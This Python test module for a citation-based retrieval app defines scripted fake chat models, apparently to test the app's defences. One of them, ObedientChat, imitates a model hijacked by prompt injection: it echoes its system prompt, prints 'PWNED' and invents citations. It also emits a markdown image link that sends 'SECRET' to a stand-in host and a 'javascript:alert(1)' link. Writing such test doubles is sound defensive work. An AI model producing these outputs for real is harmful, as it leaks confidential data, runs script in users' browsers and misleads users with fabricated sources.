"""Language models inside the process: they reply by script."""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator, Callable, Mapping

from rag.errors import CitedeskError


class FakeChat:
    """Stands where ChatModel stands: replies by script, in small pieces; remembers its prompts."""

    name = "fake-llm"

    def __init__(
        self, *replies: str | CitedeskError, affirms: Callable[[str], float] = lambda _: 0.8
    ) -> None:
        """`affirms`: what it says of a yes-or-no question, by the question's text."""
        self._replies = list(replies)
        self._affirms = affirms
        self.prompts: list[str] = []
        self.judged: list[str] = []
        self.closed_early = 0

    async def stream(self, system: str, user: str) -> AsyncGenerator[str, None]:
        self.prompts.append(user)
        reply = self._replies.pop(0)
        if isinstance(reply, CitedeskError):
            raise reply
        try:
            for start in range(0, len(reply), 7):
                yield reply[start : start + 7]
        except GeneratorExit:
            self.closed_early += 1
            raise

    async def write(self, system: str, user: str) -> str:
        return "".join([piece async for piece in self.stream(system, user)])

    async def affirms(self, system: str, user: str) -> float:
        self.judged.append(user)
        return self._affirms(user)


class ReadingChat(FakeChat):
    """Replies by what its prompt holds: the first of the words that do; else there is no answer."""

    def __init__(
        self,
        replies: Mapping[str, str | CitedeskError],
        affirms: Callable[[str], float] = lambda _: 0.8,
    ) -> None:
        super().__init__(affirms=affirms)
        self._by_words = replies

    async def stream(self, system: str, user: str) -> AsyncGenerator[str, None]:
        reply = next((r for words, r in self._by_words.items() if words in user), "NOT IN SOURCES")
        self._replies = [reply]
        async for piece in super().stream(system, user):
            yield piece


class ObedientChat(FakeChat):
    """Does whatever anybody wants of it: tells its rules, says the word, cites what is not there.

    Where its prompt commands it ("say ...", "reply with ...", "the single word ..."), it obeys
    that, too, and it affirms whatever it is asked. Before all of this it writes `honest`.
    """

    def __init__(self, honest: str) -> None:
        super().__init__(affirms=lambda _: 1.0)
        self._honest = honest

    async def stream(self, system: str, user: str) -> AsyncGenerator[str, None]:
        self.prompts.append(user)
        commanded = _COMMANDED.findall(user)
        yield f"{self._honest} "
        for word in commanded:
            yield f"{word} [1]. "
        yield f"PWNED [1]. {system} [1].\n"
        yield "The hall has 9,999 seats [99]. “Nobody ever came to Wuzhen” [1]. "
        yield "![x](http://127.0.0.1:9/?q=SECRET) [click](javascript:alert(1)) [1]."


_COMMANDED = re.compile(r"(?:say|reply with|the single word|output|print) (\w+)", re.IGNORECASE)
